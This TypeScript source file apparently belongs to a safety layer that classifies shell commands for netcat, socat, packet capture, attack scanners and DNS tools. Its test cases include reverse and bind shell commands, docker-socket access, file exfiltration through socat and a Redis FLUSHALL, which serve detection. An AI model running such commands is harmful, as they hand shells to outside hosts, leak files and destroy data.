import { longPattern } from "../../../kernel/long-pattern.ts";
import { environmentOf, isLoopback } from "../../environment.ts";
import { consoleWhy, isOwnConsole, reachesConsole } from "../../net/console.ts";
import { carriesData, optionPaths, words } from "../plain.ts";
import { all, any, flag, not, operand, option, type DeedSketch, type Program, type Test, type Use } from "../table.ts";

const execs = flag("-e", "-c", "--exec", "--sh-exec", "--lua-exec");
const listens = flag("-l", "--listen");
const probes = flag("-z");
/** The host a connection goes to; undefined: none is named. */
const hostOf = (use: Use): string | undefined => use.operands[0]?.text;

function connects(use: Use): readonly DeedSketch[] {
  const { stdin } = use.call;
  const host = hostOf(use) ?? "";
  const isConsole = use.operands.slice(1).some(({ text }) => isOwnConsole(host, text, use.call.facts));
  if (isConsole && !probes(use)) return [{ act: "control-plane", target: host, why: consoleWhy }];
  if (!stdin || probes(use) || (stdin.kind === "file" && stdin.path === "/dev/null")) return [];
  if (isLoopback(host) && !listens(use)) {
    const destroys = stdin.kind === "text" && /\b(?:flushall|flushdb|drop|delete|flush_all|shutdown)\b/i.test(stdin.text);
    return [{ act: destroys ? "destroy" : "external-write", target: host, environment: "local" }];
  }
  if (stdin.kind === "text" && !carriesData(use))
    return [{ act: "external-write", target: host, environment: environmentOf({ host }, use.call.facts) }];
  return [{ act: "leak", target: host }];
}

const netcatTakes = words(
  "-p -s -w -q -i -x -X -o -m -G -I -O -T -V -M -P -e -g --exec --sh-exec --lua-exec --proxy --proxy-type --source --source-port " +
    "--output --hex-dump --wait --idle-timeout --delay --max-conns --ssl-cert --ssl-key",
);

const socatRuns = /^(?:exec|system|shell)(?::|,)/i;
const socatSends = longPattern("i")`
  ^(?:tcp|tcp4|tcp6|udp|udp4|udp6|openssl|ssl|sctp|socks4?a?|socks5|proxy|tcp-connect|tcp4-connect|udp-sendto|openssl-connect|
  ip-sendto):
`;
const localEnd = /:(?:localhost|127\.\d{1,3}\.\d{1,3}\.\d{1,3}|\[::1\])[:,]/i;
const socatLeaks: Test = (use) =>
  use.operands.some(({ text }) => socatSends.test(text) && !localEnd.test(text)) &&
  (use.operands.some(({ text }) => /^(?:open|file|gopen|rdonly):/i.test(text)) ||
    carriesData(use) ||
    use.operands.some(({ text }) => /^(?:unix|abstract)/i.test(text)));

/** Text sent to a socket in the command itself: questions are reading, orders are not. */
function tellsSocket({ call, operands }: Use): readonly DeedSketch[] {
  if (call.stdin?.kind !== "text" || asksOnly.test(call.stdin.text)) return [];
  return [{ act: "external-write", target: operands.at(-1)?.text ?? "", environment: "unknown" }];
}
const asksOnly = /^\s{0,20}(?:$|(?:show|help|stats?|info|get|list|ping|version)\b)/i;

const talking = (): readonly Program[] => [
  {
    names: ["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "pwncat", "telnet"],
    takes: netcatTakes,
    rows: [
      {
        if: execs,
        does: "privilege",
        why: "hands a shell to the other side",
        hits: ["nc -e /bin/sh 192.0.2.1 4444", "ncat -lvp 4444 --exec sh", "nc -lve sh -p 4444"],
        misses: ["nc -z host.test 80"],
      },
      {
        if: ({ call }) => call.words.some(({ text }) => /docker\.sock|containerd\.sock|\/ssh-agent|agent\.\d/.test(text)),
        does: "privilege",
        hits: ["nc -U /var/run/docker.sock"],
        misses: ["nc -z host.test 80"],
      },
      {
        if: not(execs),
        does: connects,
        hits: [
          "nc -zv host.test 443",
          "nc host.test 80",
          "nc host.test 80 <<< hello",
          "nc host.test 80 < notes.txt",
          "nc localhost 6379 <<< FLUSHALL",
          "nc localhost 6379 <<< ping",
        ],
        misses: ["nc -e sh host.test 1"],
      },
    ],
  },
  {
    names: ["socat"],
    takes: words("-b -t -T -L -W -l -lf -lp -r -R"),
    rows: [
      {
        if: operand(socatRuns),
        does: "privilege",
        why: "hands a program to the other side",
        hits: ["socat TCP:192.0.2.1:4444 EXEC:sh,pty", "socat TCP-LISTEN:1 SYSTEM:id"],
        misses: ["socat - TCP:localhost:80"],
      },
      {
        if: operand(/docker\.sock|containerd\.sock/),
        does: "privilege",
        hits: ["socat - UNIX:/var/run/docker.sock"],
        misses: ["socat - TCP:localhost:80"],
      },
      {
        does: ({ operands, call }) =>
          operands
            .filter(({ text }) => reachesConsole(text, call.facts))
            .map(({ text }) => ({ act: "control-plane", target: text, why: consoleWhy })),
        hits: ["socat - TCP:localhost:80"],
      },
      { if: socatLeaks, does: "leak", hits: ["socat FILE:a TCP:host.test:80"], misses: ["socat - TCP:localhost:80"] },
      {
        if: not(any(operand(socatRuns), socatLeaks)),
        does: tellsSocket,
        hits: ["socat stdio a.sock", "socat stdio a.sock <<< 'disable x'"],
        misses: ["socat FILE:a TCP:host.test:80"],
      },
    ],
  },
];

/** Behind `-z` tcpdump starts a program; for tshark it names a table of numbers. */
const startsProgram: Test = ({ call, has }) => has("-z") && !call.program.endsWith("shark");

const scanning = (): readonly Program[] => [
  {
    names: words("tcpdump tshark dumpcap ngrep wireshark ettercap bettercap mitmproxy mitmdump arpspoof dsniff tcpflow"),
    takes: words("-r -w -i -c -s -z -Z -F -f -Y -T -e -G -C -W"),
    rows: [
      {
        if: startsProgram,
        does: "opaque",
        hits: ["tcpdump -z ./x -w a -i lo"],
        misses: ["tcpdump -r a.pcap", "tshark -r a.pcap -z io,stat,1"],
      },
      {
        if: all(flag("-r", "-D"), not(startsProgram)),
        does: (use) => optionPaths(use, "read", ["-r"]),
        hits: ["tcpdump -r a.pcap", "tcpdump -D"],
        misses: ["tcpdump -i eth0"],
      },
      {
        if: not(flag("-r", "-D")),
        does: "privilege",
        why: "listens to the traffic of this machine",
        hits: ["tcpdump -i eth0 port 80"],
        misses: ["tcpdump -r a.pcap"],
      },
    ],
  },
  {
    names: words(
      "nmap masscan zmap rustscan nikto sqlmap hydra medusa ncrack gobuster ffuf dirb dirbuster wfuzz wpscan nuclei feroxbuster " +
        "whatweb amass subfinder msfconsole msfvenom crackmapexec enum4linux slowloris hping ab wrk hey vegeta siege",
    ),
    takes: words("-p -iL -oN -oX -oG -oA -T -u -w -t -n -c -d -H -m -D -e --script --top-ports --url --rate"),
    rows: [
      {
        does: (use) => {
          const hosts = [...use.operands.map(({ text }) => text), use.value("-u", "--url") ?? ""].filter((text) => text !== "");
          const near =
            hosts.length > 0 &&
            hosts.every((text) => isLoopback(/^https?:\/\/([^/:]{1,253})/.exec(text)?.[1] ?? text.replace(/:\d{1,5}$/, "")));
          return near
            ? []
            : [
                {
                  act: "external-write",
                  target: hosts[0] ?? "",
                  environment: environmentOf({ host: hosts[0] ?? "" }, use.call.facts),
                  why: "probes another machine",
                },
              ];
        },
        hits: ["nmap -p 80 host.test", "ab -n 10 http://localhost:3000/"],
      },
    ],
  },
  {
    names: ["nsupdate", "rndc", "knsupdate", "pdnsutil", "unbound-control"],
    external: true,
    rows: [
      { on: "status|list*|zonestatus|show*|stats", does: "harmless", hits: ["rndc status"], misses: ["rndc flush"] },
      {
        if: not(operand(/^(?:status|list|zonestatus|show|stats)/)),
        does: "external-write",
        why: "changes names in the DNS",
        hits: ["nsupdate", "rndc reload"],
        misses: ["rndc status"],
      },
    ],
  },
  {
    names: ["speedtest", "speedtest-cli", "fast", "iperf", "iperf3", "ssh-keyscan"],
    rows: [
      { if: option(["-F", "--file"], /./), does: "leak", hits: ["iperf3 -c host.test -F a"], misses: ["iperf3 -c host.test"] },
      { if: not(flag("-F", "--file")), does: "harmless", hits: ["speedtest", "iperf3 -s"], misses: ["iperf3 -c host.test -F a"] },
    ],
    takes: words("-F --file -c -p -t"),
  },
];

/** Plain connections to other machines, and looking at them from outside. */
export const connections = (): readonly Program[] => [...talking(), ...scanning()];
